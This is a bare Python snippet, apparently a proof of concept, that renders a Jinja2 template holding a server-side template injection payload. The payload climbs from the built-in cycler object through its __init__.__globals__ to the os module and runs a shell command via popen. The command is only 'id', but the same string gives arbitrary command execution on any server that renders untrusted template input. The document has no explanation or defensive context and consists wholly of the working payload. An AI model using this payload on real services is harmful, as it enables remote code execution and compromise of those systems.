from jinja2 import Template

Template("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render()
